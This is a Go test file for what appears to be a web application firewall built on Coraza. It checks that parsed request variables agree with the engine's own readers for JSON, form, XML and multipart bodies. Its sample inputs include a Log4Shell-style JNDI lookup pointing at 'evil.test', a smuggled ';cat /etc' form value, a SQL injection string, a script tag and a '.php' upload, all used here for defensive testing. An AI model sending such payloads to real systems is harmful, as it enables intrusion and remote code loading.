package view

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3/types/variables"

	"github.com/gatehouse-sec/gatehouse/kit/body"
	"github.com/gatehouse-sec/gatehouse/kit/canon"
	"github.com/gatehouse-sec/gatehouse/kit/openapi"
)

// difference is one way in which a view may hold something else than the engine's own readers make of the same request.
type difference struct {
	why  string
	when func(s sample, tree *body.Tree) bool
	of   []variables.RuleVariable
	same func(ours, theirs []Pair) bool // what must hold of them nevertheless
}

var argumentsOfBody = []variables.RuleVariable{variables.ArgsPost, variables.ArgsPostNames, variables.Args, variables.ArgsNames}

// differences are all of them.
var differences = []difference{
	{"the query is fed as it is sent on, where the client wrote it in another way", func(s sample, _ *body.Tree) bool { return strings.Contains(s.target, "?") },
		[]variables.RuleVariable{variables.RequestURI, variables.RequestURIRaw, variables.RequestLine}, func(ours, theirs []Pair) bool {
			return canonicalTarget(ours[0].Text) == canonicalTarget(theirs[0].Text)
		}},
	{"the query is fed as it is sent on, where the client wrote it in another way", func(s sample, _ *body.Tree) bool { return strings.Contains(s.target, "?") },
		[]variables.RuleVariable{variables.QueryString}, func(ours, theirs []Pair) bool {
			return canonicalTarget("?"+ours[0].Text) == canonicalTarget("?"+theirs[0].Text)
		}},
	{"text and bytes are one argument, and not read as if they were a form", is(body.Text, body.Opaque), argumentsOfBody, func(ours, _ []Pair) bool {
		return slices.ContainsFunc(ours, func(p Pair) bool { return p.Key == "text" || p.Key == "bytes" })
	}},
	{"text and bytes are one argument, and not read as if they were a form", is(body.Text, body.Opaque), []variables.RuleVariable{variables.ArgsCombinedSize}, nil},
	{"text and bytes are no form", is(body.Text, body.Opaque), []variables.RuleVariable{variables.ReqbodyProcessor}, func(ours, theirs []Pair) bool {
		return ours[0].Text == "RAW" && (theirs[0].Text == "" || theirs[0].Text == "URLENCODED")
	}},
	{"values of attributes are arguments too, which more rules look at", is(body.XML), argumentsOfBody, func(ours, theirs []Pair) bool {
		return slices.Equal(slices.DeleteFunc(slices.Clone(ours), func(p Pair) bool { return p.Key == "xml.attribute" }), theirs)
	}},
	{"values of attributes are arguments too, which more rules look at", is(body.XML), []variables.RuleVariable{variables.ArgsCombinedSize}, nil},
	{"no body has no reader, whatever the fields say of it", is(body.Empty), []variables.RuleVariable{variables.ReqbodyProcessor}, func(ours, _ []Pair) bool { return ours[0].Text == "" }},
	{"of names that differ in case only, the engine's reader of forms keeps one", is(body.Form), argumentsOfBody, func(ours, theirs []Pair) bool {
		return within(theirs, ours) && sameFolded(ours, theirs)
	}},
	{"of names that differ in case only, the engine's reader of forms keeps one", twins, []variables.RuleVariable{variables.ArgsCombinedSize}, nil},
	{"nothing is written to disk", is(body.Multipart), []variables.RuleVariable{variables.FilesTmpNames}, func(ours, _ []Pair) bool { return len(ours) == 0 }},
	{"of files of one name, the engine keeps the last size", is(body.Multipart), []variables.RuleVariable{variables.FilesSizes}, func(ours, theirs []Pair) bool { return within(theirs, ours) }},
	{"what was wrong with a body is said in our words", is(body.JSON), []variables.RuleVariable{variables.ReqbodyErrorMsg, variables.ReqbodyProcessorErrorMsg}, func(ours, theirs []Pair) bool {
		return (ours[0].Text == "") == (theirs[0].Text == "")
	}},
}

func is(kinds ...body.Kind) func(sample, *body.Tree) bool {
	return func(_ sample, tree *body.Tree) bool { return slices.Contains(kinds, tree.Kind) }
}

// twins tells that a form has names that differ in case only.
func twins(_ sample, tree *body.Tree) bool {
	seen := map[string]string{}
	for _, p := range tree.Form {
		lower := strings.ToLower(p.Name)
		if before, ok := seen[lower]; ok && before != p.Name {
			return true
		}
		seen[lower] = p.Name
	}
	return false
}

// within tells that a multiset, sorted, is part of another.
func within(part, whole []Pair) bool {
	at := 0
	for _, p := range part {
		for at < len(whole) && whole[at] != p {
			at++
		}
		if at == len(whole) {
			return false
		}
		at++
	}
	return true
}

// sameFolded tells that both are the same but for names of which another spelling in ours was left out.
func sameFolded(ours, theirs []Pair) bool {
	spellings := map[string]map[string]bool{}
	for _, p := range ours {
		lower := strings.ToLower(p.Key)
		if spellings[lower] == nil {
			spellings[lower] = map[string]bool{}
		}
		spellings[lower][p.Key] = true
	}
	lone := func(pairs []Pair) []Pair {
		return slices.DeleteFunc(slices.Clone(pairs), func(p Pair) bool { return len(spellings[strings.ToLower(p.Key)]) > 1 })
	}
	return slices.Equal(lone(ours), lone(theirs))
}

// canonicalTarget is a target with its query in the form in which it is sent on; a protocol may follow it.
func canonicalTarget(text string) string {
	text, protocol, _ := strings.Cut(text, " HTTP")
	path, query, _ := strings.Cut(text, "?")
	pairs, refusal := canon.Query(query, 1000)
	if refusal != nil {
		return "refused " + text
	}
	return path + fmt.Sprint(pairs) + protocol
}

// compare checks a sample: what the view says is what a transaction holds that was fed with it, and what the engine's own
// readers make of the same request, but for the differences. It tells whether the request reached the rules at all.
func compare(t testing.TB, s sample) bool {
	t.Helper()
	x, tree, ok := s.exchange()
	if !ok {
		return false
	}
	var v View
	v.Fill(x, tree)
	oursHead, ours := fed(t, &v, x.ID)
	theirsHead, theirs := parsed(t, s, x, tree)
	if !slices.Equal(ours[variables.TX], theirs[variables.TX]) {
		t.Errorf("%s: TX of ours%s\ntheirs%s", s.target, show(ours[variables.TX]), show(theirs[variables.TX]))
	}
	for variable := range ours {
		if Phase(variable) == 0 {
			continue
		}
		if held := sorted(v.Of(variable)); !slices.Equal(held, ours[variable]) {
			t.Errorf("%s %s: the view says%s\nthe transaction holds%s", s.target, variable.Name(), show(held), show(ours[variable]))
		}
		if held := sorted(v.Head(variable)); !slices.Equal(held, oursHead[variable]) {
			t.Errorf("%s %s in phase 1: the view says%s\nthe transaction holds%s", s.target, variable.Name(), show(held), show(oursHead[variable]))
		}
		if !agree(s, tree, variable, ours[variable], theirs[variable]) {
			t.Errorf("%s %s\n%.300q\nours%s\ntheirs%s", s.target, variable.Name(), s.body, show(ours[variable]), show(theirs[variable]))
		}
		if !agree(s, tree, variable, oursHead[variable], theirsHead[variable]) {
			t.Errorf("%s %s in phase 1\nours%s\ntheirs%s", s.target, variable.Name(), show(oursHead[variable]), show(theirsHead[variable]))
		}
	}
	return true
}

func agree(s sample, tree *body.Tree, variable variables.RuleVariable, ours, theirs []Pair) bool {
	if slices.Equal(ours, theirs) {
		return true
	}
	for _, d := range differences {
		if slices.Contains(d.of, variable) && d.when(s, tree) && (d.same == nil || d.same(ours, theirs)) {
			return true
		}
	}
	return false
}

// multi writes a multipart body.
func multi(parts ...string) sample {
	text := ""
	for _, p := range parts {
		text += "--b\r\n" + p + "\r\n"
	}
	return post("multipart/form-data; boundary=b", text+"--b--\r\n")
}

var samples = []sample{
	{method: "GET", target: "/"},
	{method: "GET", target: "/products/1?q=green%20tea&q=a%26b&Q=%2B&empty&=x&=y&a%3Db=c"},
	{method: "GET", target: "/a%20b/%E4%B8%96%25/c!$&'()*+,=:@d/", fields: map[string]string{"Cookie": "a=1; b=\"2\"; c=", "X-Request-Id": "${jndi:ldap://evil.test/a}"}},
	{method: "GET", target: "/a:b?a:b@c/d=1,2&x=%09%0a%0d", fields: map[string]string{"Content-Type": "application/json"}},
	{method: "GET", target: "/p?&&a=1&&", fields: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}},
	{method: "GET", target: "/x/y", contract: &openapi.Operation{}, params: []canon.Pair{{Name: "id", Value: "y z"}}},
	post("application/json", `{"a":{"b":["x",1,true,false,null,{},[],[[]],{"c":-1.5E+3}]},"":{"":""},"a.b":"dot","A":2,"é\u00e9\ud83d\ude00":"\"\\\/\b\f\n\r\t"}`),
	post("application/json; charset=utf-8", ` [ ] `), post("application/json", `{}`), post("application/json", `null`), post("application/json", ` 12 `),
	post("application/json", `"text"`), post("application/json", `true`), post("application/json", `[[[1]],[2,3],{"a":[{}]}]`), post("application/vnd.shop+json", `{"a":-0,"b":1e5,"c":0.10}`),
	post("application/x-www-form-urlencoded", "a=1&b=2&a=3&c=%3Bcat+%2Fetc&d&=e&f=%26%3D"), post("application/x-www-form-urlencoded", "Name=1&name=2&NAME=3&x=4"),
	post("application/x-www-form-urlencoded", ""), post("text/plain", "a=1&b=2 and 100%"), post("application/octet-stream", "\x00\xffbytes"), post("text/plain", ""),
	post("text/xml", `<?xml version="1.0"?><a x="1" y='&lt;2&gt;'> t &amp; u <b>v</b><c z=""/><!-- no --><![CDATA[ <d> ]]>&nbsp;</a>`), post("application/xml", `<a><b>open`),
	post("application/xml", `<a b="cut`), post("application/soap+xml", `<s:Envelope xmlns:s="urn:x"><s:Body>é</s:Body></s:Envelope>`), post("text/xml", `<a></b>`), post("text/xml", `<a b=c d>x<br>y</a>`), post("text/xml", `<1>`),
	post("text/xml", `no tags`), post("text/xml", `<?xml version="1.0" encoding="us-ascii"?><a/>`), post("text/xml", `<a>&unknown;</a>`),
	multi("Content-Disposition: form-data; name=\"a\"\r\n\r\n<script>", "Content-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\nContent-Type: text/plain\r\n\r\nabc"),
	multi("Content-Disposition: form-data; name=\"f\"; filename=\"a b\"\r\nContent-Type: image/png\r\n\r\n\x89PNG", "Content-Disposition: form-data; name=\"f\"; filename=\"A B\"\r\n\r\n12"),
	multi("content-disposition: FORM-DATA;filename=\"\";name=f\r\ncontent-type: application/octet-stream\r\n\r\n", "Content-Disposition: form-data; name=\"a\"\r\nContent-Length: 1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n1"),
}

func TestSameAsTheEnginesOwnReaders(t *testing.T) {
	for i, s := range samples {
		if !compare(t, s) {
			t.Errorf("sample %d is refused: %q %q", i, s.target, s.body)
		}
	}
}

// A request line of a story: 127.0.0.1 - POST /p | Content-Type: application/json <<< {"a":1}
var storyLine = regexp.MustCompile(`(?m)^[0-9a-f.:]+ +\S+ +([A-Z]+) (\S+)((?: \| [^\n]*?)?)(?: <<< (.*))?$`)
var storyRepeat = regexp.MustCompile(`\{\{(\d+)\*([^}]*)\}\}`)

func TestSameForAllStories(t *testing.T) {
	files, err := filepath.Glob("../../../*/stories/*.txtar")
	if err != nil {
		t.Fatal(err)
	}
	more, err := filepath.Glob("../../../*/*/stories/*.txtar")
	if err != nil {
		t.Fatal(err)
	}
	reached := 0
	for _, file := range append(files, more...) {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range storyLine.FindAllStringSubmatch(string(text), -1) {
			s := sample{method: m[1], target: repeated(m[2]), fields: map[string]string{}, body: repeated(m[4])}
			for field := range strings.SplitSeq(m[3], " | ") {
				if name, value, ok := strings.Cut(field, ": "); ok && name != "Host" {
					s.fields[name] = repeated(value)
				}
			}
			if compare(t, s) {
				reached++
			}
		}
	}
	if reached < 50 {
		t.Errorf("only %d requests of the stories reached the rules", reached)
	}
}

func repeated(text string) string {
	return storyRepeat.ReplaceAllStringFunc(text, func(m string) string {
		parts := storyRepeat.FindStringSubmatch(m)
		n, _ := strconv.Atoi(parts[1])
		return strings.Repeat(parts[2], n)
	})
}

// The files y_ of nst/JSONTestSuite are JSON by all readers.
func TestSameForTheCorpus(t *testing.T) {
	root := os.Getenv("GATEHOUSE_CORPORA")
	if root == "" {
		t.Log("NOT RUN: GATEHOUSE_CORPORA does not name the folder of the corpora; TestSameAsTheEnginesOwnReaders holds an extract")
		return
	}
	files, err := filepath.Glob(filepath.Join(root, "json-parsing", "test_parsing", "y_*.json"))
	if err != nil || len(files) == 0 {
		t.Fatal(err, len(files))
	}
	reached := 0
	for _, file := range files {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if compare(t, post("application/json", string(text))) {
			reached++
		}
	}
	t.Logf("%d of %d files reached the rules", reached, len(files))
	if reached < 85 {
		t.Errorf("only %d of %d files reached the rules", reached, len(files))
	}
}

// Bodies of all kinds by chance, the same in each run.
func TestSameForGenerated(t *testing.T) {
	r := rand.New(rand.NewPCG(6, 4))
	reached := 0
	for i := range 1500 {
		var s sample
		switch i % 5 {
		case 0, 1:
			s = post("application/json", makeJSON(r, 5))
		case 2:
			s = post("application/x-www-form-urlencoded", makeForm(r))
		case 3:
			s = post("text/xml", makeXML(r, 4))
		case 4:
			var parts []string
			for range 1 + r.IntN(4) {
				file := ""
				if r.IntN(2) == 0 {
					file = `; filename="` + plain1(r) + `"`
				}
				parts = append(parts, `Content-Disposition: form-data; name="n`+plain1(r)+`"`+file+"\r\n\r\n"+words[r.IntN(len(words))])
			}
			s = multi(parts...)
		}
		s.target = "/p?" + makeForm(r)
		if compare(t, s) {
			reached++
		}
		if t.Failed() {
			t.Fatalf("request %d", i)
		}
	}
	if reached < 1000 {
		t.Errorf("only %d generated requests reached the rules", reached)
	}
}

var words = []string{"", "a", "B", "b", "price", "json", "0", "a.b", "é", "<script>", "' or 1=1", "世界", "x\ty", "%41", "a+b", "a=b&c", `q"u\o`, "😀", "ſ", "K"}

func plain1(r *rand.Rand) string { return "f" + strconv.Itoa(r.IntN(5)) }

func makeJSON(r *rand.Rand, depth int) string {
	switch n := r.IntN(9); {
	case n < 2 && depth > 0:
		var items []string
		for range r.IntN(5) {
			items = append(items, makeJSON(r, depth-1))
		}
		return "[" + strings.Join(items, ", ") + "]"
	case n < 5 && depth > 0:
		var items []string
		for range r.IntN(5) {
			items = append(items, strconv.Quote(words[r.IntN(len(words))])+": "+makeJSON(r, depth-1))
		}
		return "{" + strings.Join(items, ",\n") + "}"
	case n == 5:
		return []string{"0", "-1", "1.50", "1e5", "-0.0E-1", "12345678901234567890"}[r.IntN(6)]
	case n == 6:
		return []string{"true", "false", "null"}[r.IntN(3)]
	}
	return strconv.Quote(words[r.IntN(len(words))])
}

func makeForm(r *rand.Rand) string {
	var pairs []string
	for range r.IntN(6) {
		pair := url.QueryEscape(words[r.IntN(len(words))])
		if r.IntN(5) > 0 {
			pair += "=" + url.QueryEscape(words[r.IntN(len(words))])
		}
		pairs = append(pairs, pair)
	}
	return strings.Join(pairs, "&")
}

func makeXML(r *rand.Rand, depth int) string {
	escape := strings.NewReplacer("<", "&lt;", "&", "&amp;", `"`, "&quot;")
	if depth == 0 || r.IntN(4) == 0 {
		return escape.Replace(words[r.IntN(len(words))])
	}
	name := []string{"a", "b", "n:c", "br"}[r.IntN(4)]
	text := "<" + name
	for range r.IntN(3) {
		text += " k" + strconv.Itoa(r.IntN(9)) + `="` + escape.Replace(words[r.IntN(len(words))]) + `"`
	}
	text += ">"
	for range r.IntN(4) {
		text += makeXML(r, depth-1)
	}
	if r.IntN(12) == 0 {
		return text
	}
	return text + "</" + name + ">"
}
